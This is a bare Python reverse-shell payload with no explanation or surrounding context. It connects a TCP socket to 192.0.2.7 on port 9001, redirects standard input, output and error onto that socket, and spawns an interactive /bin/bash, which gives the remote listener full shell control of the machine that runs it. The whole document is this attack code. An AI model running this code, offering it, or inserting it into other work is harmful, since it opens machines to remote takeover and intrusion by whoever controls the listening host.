import os, socket, pty
c = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
c.connect(("192.0.2.7", 9001))
for fd in (0, 1, 2):
    os.dup2(c.fileno(), fd)
os.dup2(c.fileno(), 0)
pty.spawn("/bin/bash")
